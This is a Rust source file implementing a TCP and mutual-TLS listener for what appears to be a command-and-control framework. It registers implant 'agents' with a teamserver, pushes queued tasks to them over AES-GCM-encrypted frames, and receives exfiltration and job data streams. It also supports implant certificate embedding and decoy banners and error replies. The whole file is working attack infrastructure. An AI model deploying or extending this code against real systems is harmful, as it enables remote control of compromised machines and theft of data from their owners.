use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use dashmap::DashMap;
use serde::{Deserialize, Serialize};
use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;
use tokio::sync::watch;
use tokio::time::timeout;
use tokio_rustls::rustls::server::WebPkiClientVerifier;
use tokio_rustls::rustls::{RootCertStore, ServerConfig as TlsServerConfig};
use tokio_rustls::TlsAcceptor;

use crate::crypto;
use crate::extender::ListenerModule;
use crate::protocol::{
    recv_frame, send_frame, AsyncStream, Envelope, InitPack, StreamPack, EXFIL_PACK, INIT_PACK,
    JOB_PACK,
};
use crate::server::Teamserver;
use crate::tasks::HOSTED_TASKS_BUDGET;
use crate::{Result, UmbraError};

const HANDSHAKE_DEADLINE: Duration = Duration::from_secs(5);
const LIVENESS_PROBE: Duration = Duration::from_millis(100);

/// `InitPlugin` equivalent for the reference TCP/mTLS listener.
pub fn init_plugin(_module_dir: &Path, state_dir: &Path) -> Arc<dyn ListenerModule> {
    TcpListenerModule::new(state_dir)
}

/// Listener profile. PEM material is carried inline; `encrypt_key` is the
/// hex-encoded 32-byte AES-GCM key framing all post-handshake traffic
/// outside any TLS.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TcpProfile {
    pub host_bind: String,
    pub port_bind: u16,
    #[serde(default)]
    pub ssl: bool,
    #[serde(default)]
    pub ca_cert: String,
    #[serde(default)]
    pub server_cert: String,
    #[serde(default)]
    pub server_key: String,
    // Client certificate material is not used by the listener itself; it is
    // carried in the profile so implant generation can embed it.
    #[serde(default)]
    pub client_cert: String,
    #[serde(default)]
    pub client_key: String,
    #[serde(default)]
    pub tcp_banner: String,
    #[serde(default)]
    pub error_answer: String,
    #[serde(default)]
    pub timeout: u64,
    pub protocol: String,
    pub encrypt_key: String,
}

pub struct TcpListenerModule {
    state_dir: PathBuf,
    instances: DashMap<String, Instance>,
}

struct Instance {
    cancel: watch::Sender<bool>,
    agent_connects: Arc<DashMap<String, ConnHandle>>,
    job_connects: Arc<DashMap<String, ConnHandle>>,
    local_addr: SocketAddr,
}

struct ConnHandle {
    cancel: watch::Sender<bool>,
}

/// Everything a connection handler needs; one per listener instance.
struct ListenerCtx {
    name: String,
    profile: TcpProfile,
    key: Vec<u8>,
    ts: Arc<Teamserver>,
    acceptor: Option<TlsAcceptor>,
    agent_connects: Arc<DashMap<String, ConnHandle>>,
    job_connects: Arc<DashMap<String, ConnHandle>>,
}

impl TcpListenerModule {
    pub fn new(state_dir: &Path) -> Arc<Self> {
        Arc::new(Self {
            state_dir: state_dir.to_path_buf(),
            instances: DashMap::new(),
        })
    }

    /// Bound address of a running instance; port 0 profiles resolve here.
    pub fn local_addr(&self, name: &str) -> Option<SocketAddr> {
        self.instances.get(name).map(|i| i.local_addr)
    }
}

impl ListenerModule for TcpListenerModule {
    fn start(&self, name: &str, profile: &[u8], ts: Arc<Teamserver>) -> Result<()> {
        let profile: TcpProfile =
            serde_json::from_slice(profile).map_err(|e| UmbraError::Config(e.to_string()))?;

        let key = crypto::decode_hex(&profile.encrypt_key)?;
        if key.len() != crypto::KEY_LEN {
            return Err(UmbraError::Config(
                "encrypt_key must be 32 bytes of hex".to_string(),
            ));
        }

        let acceptor = if profile.ssl {
            Some(build_tls_acceptor(&profile)?)
        } else {
            None
        };

        let address = format!("{}:{}", profile.host_bind, profile.port_bind);
        let std_listener = std::net::TcpListener::bind(&address)?;
        std_listener.set_nonblocking(true)?;
        let local_addr = std_listener.local_addr()?;

        std::fs::create_dir_all(self.state_dir.join(name))?;

        let agent_connects = Arc::new(DashMap::new());
        let job_connects = Arc::new(DashMap::new());
        let (cancel_tx, cancel_rx) = watch::channel(false);

        let ctx = Arc::new(ListenerCtx {
            name: name.to_string(),
            profile,
            key,
            ts,
            acceptor,
            agent_connects: Arc::clone(&agent_connects),
            job_connects: Arc::clone(&job_connects),
        });

        self.instances.insert(
            name.to_string(),
            Instance {
                cancel: cancel_tx,
                agent_connects,
                job_connects,
                local_addr,
            },
        );

        tokio::spawn(accept_loop(std_listener, ctx, cancel_rx));
        tracing::info!(listener = %name, address = %local_addr, "TCP listener bound");
        Ok(())
    }

    fn stop(&self, name: &str) -> Result<()> {
        let (_, instance) = self
            .instances
            .remove(name)
            .ok_or_else(|| UmbraError::ListenerNotFound(name.to_string()))?;

        let _ = instance.cancel.send(true);
        for entry in instance.agent_connects.iter() {
            let _ = entry.value().cancel.send(true);
        }
        for entry in instance.job_connects.iter() {
            let _ = entry.value().cancel.send(true);
        }

        let state_path = self.state_dir.join(name);
        if state_path.exists() {
            std::fs::remove_dir_all(&state_path)?;
        }
        Ok(())
    }

    fn active(&self, name: &str) -> bool {
        self.instances.contains_key(name)
    }
}

fn build_tls_acceptor(profile: &TcpProfile) -> Result<TlsAcceptor> {
    let mut cert_reader = profile.server_cert.as_bytes();
    let certs = rustls_pemfile::certs(&mut cert_reader).collect::<std::io::Result<Vec<_>>>()?;

    let mut key_reader = profile.server_key.as_bytes();
    let key = rustls_pemfile::private_key(&mut key_reader)?
        .ok_or_else(|| UmbraError::Config("no private key in server_key".to_string()))?;

    let mut roots = RootCertStore::empty();
    let mut ca_reader = profile.ca_cert.as_bytes();
    for cert in rustls_pemfile::certs(&mut ca_reader) {
        roots
            .add(cert?)
            .map_err(|e| UmbraError::Config(e.to_string()))?;
    }

    // Client verification is mandatory in TLS mode.
    let verifier = WebPkiClientVerifier::builder(Arc::new(roots))
        .build()
        .map_err(|e| UmbraError::Config(e.to_string()))?;

    let config = TlsServerConfig::builder()
        .with_client_cert_verifier(verifier)
        .with_single_cert(certs, key)
        .map_err(|e| UmbraError::Config(e.to_string()))?;

    Ok(TlsAcceptor::from(Arc::new(config)))
}

async fn accept_loop(
    std_listener: std::net::TcpListener,
    ctx: Arc<ListenerCtx>,
    mut cancel_rx: watch::Receiver<bool>,
) {
    let listener = match TcpListener::from_std(std_listener) {
        Ok(listener) => listener,
        Err(e) => {
            tracing::error!(listener = %ctx.name, "failed to register listener socket: {}", e);
            return;
        }
    };

    loop {
        tokio::select! {
            _ = cancel_rx.changed() => break,
            accepted = listener.accept() => {
                let (stream, peer) = match accepted {
                    Ok(pair) => pair,
                    Err(e) => {
                        tracing::warn!(listener = %ctx.name, "accept failed: {}", e);
                        break;
                    }
                };
                tracing::debug!(listener = %ctx.name, peer = %peer, "connection accepted");
                let ctx = Arc::clone(&ctx);
                tokio::spawn(handle_connection(ctx, stream, peer));
            }
        }
    }
}

async fn handle_connection(ctx: Arc<ListenerCtx>, stream: tokio::net::TcpStream, peer: SocketAddr) {
    let mut conn: Box<dyn AsyncStream> = match &ctx.acceptor {
        Some(acceptor) => match acceptor.accept(stream).await {
            Ok(tls) => Box::new(tls),
            Err(e) => {
                tracing::warn!(peer = %peer, "TLS handshake failed: {}", e);
                return;
            }
        },
        None => Box::new(stream),
    };

    if !ctx.profile.tcp_banner.is_empty() {
        let _ = tokio::io::AsyncWriteExt::write_all(&mut conn, ctx.profile.tcp_banner.as_bytes())
            .await;
    }

    let first_frame = match timeout(HANDSHAKE_DEADLINE, recv_frame(&mut conn)).await {
        Ok(Ok(frame)) => frame,
        _ => return error_out(conn, &ctx.profile.error_answer).await,
    };

    let plain = match crypto::decrypt_data(&ctx.key, &first_frame) {
        Ok(plain) => plain,
        Err(_) => return error_out(conn, &ctx.profile.error_answer).await,
    };
    let envelope = match Envelope::from_msgpack(&plain) {
        Ok(envelope) => envelope,
        Err(_) => return error_out(conn, &ctx.profile.error_answer).await,
    };

    match envelope.id {
        INIT_PACK => handle_agent_stream(ctx, conn, peer, &envelope.data).await,
        EXFIL_PACK | JOB_PACK => handle_job_stream(ctx, conn, &envelope.data).await,
        _ => error_out(conn, &ctx.profile.error_answer).await,
    }
}

/// INIT connections: register or revive the agent, then drive the task pump
/// until the socket dies or the listener stops.
async fn handle_agent_stream(
    ctx: Arc<ListenerCtx>,
    mut conn: Box<dyn AsyncStream>,
    peer: SocketAddr,
    data: &[u8],
) {
    let pack = match InitPack::from_msgpack(data) {
        Ok(pack) => pack,
        Err(_) => return error_out(conn, &ctx.profile.error_answer).await,
    };

    let agent_id = format!("{:08x}", pack.id);
    let agent_type = format!("{:08x}", pack.agent_type);
    let external_ip = peer.ip().to_string();

    if !ctx.ts.ts_agent_is_exists(&agent_id) {
        if let Err(e) =
            ctx.ts
                .ts_agent_create(&agent_type, &agent_id, &pack.data, &ctx.name, &external_ip)
        {
            tracing::warn!(agent_id = %agent_id, "agent create failed: {}", e);
            return error_out(conn, &ctx.profile.error_answer).await;
        }
    } else {
        let _ = ctx.ts.ts_agent_set_mark(&agent_id, "");
    }

    let (cancel_tx, mut cancel_rx) = watch::channel(false);
    ctx.agent_connects
        .insert(agent_id.clone(), ConnHandle { cancel: cancel_tx });

    pump(&ctx, &mut conn, &agent_id, &mut cancel_rx).await;

    let _ = ctx.ts.ts_agent_set_mark(&agent_id, "Disconnect");
    ctx.agent_connects.remove(&agent_id);
}

/// EXFIL and JOB connections: validate the running task, then feed every
/// inbound frame into the teamserver until the stream closes.
async fn handle_job_stream(ctx: Arc<ListenerCtx>, mut conn: Box<dyn AsyncStream>, data: &[u8]) {
    let pack = match StreamPack::from_msgpack(data) {
        Ok(pack) => pack,
        Err(_) => return error_out(conn, &ctx.profile.error_answer).await,
    };

    let agent_id = format!("{:08x}", pack.id);
    if !ctx.ts.task_running_exists(&agent_id, &pack.task) {
        return error_out(conn, &ctx.profile.error_answer).await;
    }

    let jc_id = format!("{}-{}", agent_id, pack.task);
    let (cancel_tx, mut cancel_rx) = watch::channel(false);
    ctx.job_connects
        .insert(jc_id.clone(), ConnHandle { cancel: cancel_tx });

    loop {
        let frame = tokio::select! {
            _ = cancel_rx.changed() => break,
            frame = recv_frame(&mut conn) => match frame {
                Ok(frame) => frame,
                Err(_) => break,
            },
        };
        if let Err(e) = ctx.ts.ts_agent_process_data(&agent_id, &frame) {
            tracing::warn!(agent_id = %agent_id, "stream data rejected: {}", e);
        }
    }

    ctx.job_connects.remove(&jc_id);
}

/// The per-connection task pump: push the next budgeted batch, read one
/// reply, repeat. An idle connection gets a short speculative read as a
/// liveness probe.
async fn pump(
    ctx: &ListenerCtx,
    conn: &mut Box<dyn AsyncStream>,
    agent_id: &str,
    cancel_rx: &mut watch::Receiver<bool>,
) {
    loop {
        if *cancel_rx.borrow() {
            break;
        }

        let send_data = match ctx.ts.ts_agent_get_hosted_tasks(agent_id, HOSTED_TASKS_BUDGET) {
            Ok(data) => data,
            Err(e) => {
                tracing::warn!(agent_id = %agent_id, "hosted tasks failed: {}", e);
                break;
            }
        };

        if !send_data.is_empty() {
            if send_frame(conn, &send_data).await.is_err() {
                break;
            }

            let reply = tokio::select! {
                _ = cancel_rx.changed() => break,
                reply = recv_reply(conn, ctx.profile.timeout) => match reply {
                    Ok(reply) => reply,
                    Err(_) => break,
                },
            };

            if let Err(e) = ctx.ts.ts_agent_process_data(agent_id, &reply) {
                tracing::warn!(agent_id = %agent_id, "reply rejected: {}", e);
            }
        } else {
            // Speculative 1-byte read under a short deadline. Timeout means
            // the peer is quiet but alive; EOF or error means it is gone.
            let mut probe = [0u8; 1];
            match timeout(LIVENESS_PROBE, conn.read(&mut probe)).await {
                Err(_) => {}
                Ok(Ok(0)) => break,
                Ok(Ok(_)) => {}
                Ok(Err(_)) => break,
            }
        }
    }
}

async fn recv_reply(conn: &mut Box<dyn AsyncStream>, timeout_secs: u64) -> std::io::Result<Vec<u8>> {
    if timeout_secs == 0 {
        return recv_frame(conn).await;
    }
    match timeout(Duration::from_secs(timeout_secs), recv_frame(conn)).await {
        Ok(result) => result,
        Err(_) => Err(std::io::Error::new(
            std::io::ErrorKind::TimedOut,
            "reply deadline exceeded",
        )),
    }
}

/// Handshake failure path: the error answer goes out raw, before any
/// framing or encryption applies.
async fn error_out(mut conn: Box<dyn AsyncStream>, answer: &str) {
    if !answer.is_empty() {
        let _ = tokio::io::AsyncWriteExt::write_all(&mut conn, answer.as_bytes()).await;
    }
    let _ = tokio::io::AsyncWriteExt::shutdown(&mut conn).await;
}
